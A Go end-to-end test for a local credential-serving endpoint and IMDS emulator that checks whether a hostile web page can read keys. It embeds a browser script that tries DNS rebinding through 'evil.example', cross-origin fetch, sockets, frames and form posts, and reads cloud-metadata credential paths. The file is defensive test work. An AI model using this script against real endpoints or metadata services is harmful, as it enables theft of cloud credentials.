//go:build linux

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"rolecall/internal/proof"
)

// attempts is what a page does that knows an endpoint's address and token. It returns what it could read.
const attempts = `(async (uri, imds, token) => {
  const read = [];
  const attempt = async (what, f) => {
    try { read.push(what + ": " + await f()); } catch (e) { read.push(what + ": " + e); }
  };
  const shown = (f) => { try { return f.contentDocument.body.innerText; } catch { return "not readable"; } };
  const auth = { Authorization: token };
  const at = new URL(uri), rebound = "http://evil.example:" + at.port + at.pathname;
  for (const url of [uri, rebound, "http://localhost:" + at.port + at.pathname]) {
    await attempt("fetch " + url, async () => (await fetch(url, { headers: auth })).text());
    await attempt("simple " + url, async () => (await fetch(url)).text());
    await attempt("no-cors " + url, async () => (await fetch(url, { mode: "no-cors" })).text());
    await attempt("post " + url, async () => (await fetch(url, { method: "POST", body: token })).text());
    await attempt("xhr " + url, () => new Promise((yes, no) => {
      const x = new XMLHttpRequest();
      x.onload = () => yes(x.responseText);
      x.onerror = () => no("failed");
      x.open("GET", url);
      x.setRequestHeader("Authorization", token);
      x.send();
    }));
    await attempt("socket " + url, () => new Promise((yes, no) => {
      const s = new WebSocket(url.replace("http", "ws"));
      s.onopen = () => yes("ASIA: the socket is open");
      s.onmessage = (e) => yes(e.data);
      s.onerror = () => no("failed");
    }));
    await attempt("events " + url, () => new Promise((yes, no) => {
      const s = new EventSource(url);
      s.onmessage = (e) => yes(e.data);
      s.onerror = () => { s.close(); no("failed"); };
    }));
    await attempt("frame " + url, () => new Promise((yes) => {
      const f = document.createElement("iframe");
      f.onload = () => yes(shown(f));
      f.src = url;
      (document.body || document.documentElement).append(f);
    }));
    await attempt("form " + url, () => new Promise((yes) => {
      const f = document.createElement("iframe"), form = document.createElement("form");
      f.name = "answer" + read.length;
      (document.body || document.documentElement).append(f, form);
      form.method = "post"; form.action = url; form.target = f.name;
      f.onload = () => yes(shown(f));
      form.submit();
    }));
  }
  for (const base of [imds, imds.replace("127.0.0.1", "evil.example")]) {
    const ttl = { "X-aws-ec2-metadata-token-ttl-seconds": "60" };
    await attempt("put " + base, async () => {
      const answer = await fetch(base + "latest/api/token", { method: "PUT", headers: ttl });
      return (answer.ok ? "ASIA? " : "") + answer.status + " " + await answer.text();
    });
    await attempt("metadata " + base, async () =>
      (await fetch(base + "latest/meta-data/iam/security-credentials/Admin")).text());
  }
  return read;
})`

// A page that knows address and token, that rebinds its name to 127.0.0.1, that sends requests across origins, posts
// forms and opens sockets, reads no keys. As a control, the same page reads those of an endpoint that does not check
// who asks.
func TestPagesGetNoKeys(t *testing.T) {
	t.Parallel()
	browser := aBrowser(t, chromedp.Flag("host-resolver-rules", "MAP evil.example 127.0.0.1"))
	w := servedWorld(t, "")
	imds := "http://127.0.0.1:" + freePort(t) + "/"
	_, target := w.serving(t, "--imds", "--imds-port", strings.Split(imds[:len(imds)-1], ":")[2])
	token, err := os.ReadFile(target.TokenFile)
	if err != nil {
		t.Fatal(err)
	}
	if got := fetchKeys(t, target.URI, string(token)); got != 200 {
		t.Fatalf("a program has %d", got)
	}
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<!doctype html><p id=evil>evil</p>")
	}))
	t.Cleanup(evil.Close)
	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") == string(token) {
			_, _ = io.WriteString(w, "ASIACONTROL")
		}
	}))
	t.Cleanup(careless.Close)

	rebound := func(address string) string { return strings.Replace(address, "127.0.0.1", "evil.example", 1) }
	tried := 0
	for name, c := range map[string]struct{ at, uri string }{
		"another origin":             {evil.URL, target.URI},
		"another name":               {rebound(evil.URL), target.URI},
		"rebound to the endpoint":    {rebound(target.URI), target.URI},
		"rebound to IMDS":            {rebound(imds), target.URI},
		"the endpoint's own address": {target.URI, target.URI},
	} {
		read := attempt(t, browser, c.at, c.uri, imds, string(token))
		if len(read) < 25 {
			t.Errorf("%s: only %d attempts: %q", name, len(read), read)
		}
		for _, got := range read {
			if strings.Contains(got, "ASIA") {
				t.Errorf("%s: %s", name, got)
			}
		}
		tried += len(read)
	}
	control := attempt(t, browser, rebound(careless.URL), careless.URL+"/x", imds, string(token))
	if !strings.Contains(strings.Join(control, "\n"), "ASIACONTROL") {
		t.Errorf("the control read nothing: %q", control)
	}
	proof.Note(t, "endpoint", tried, tried)
}

func attempt(t *testing.T, browser context.Context, at, uri, imds, token string) []string {
	t.Helper()
	ctx, cancel := context.WithTimeout(browser, 60*time.Second)
	defer cancel()
	arguments, err := json.Marshal([]string{uri, imds, token})
	if err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(at)); err != nil {
		t.Errorf("%s: %v", at, err)
		return nil
	}
	read, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](fmt.Sprintf("%s(...%s)", attempts, arguments),
		chromedp.EvalAwaitPromise))
	if err != nil {
		t.Errorf("%s: %v", at, err)
	}
	return read
}
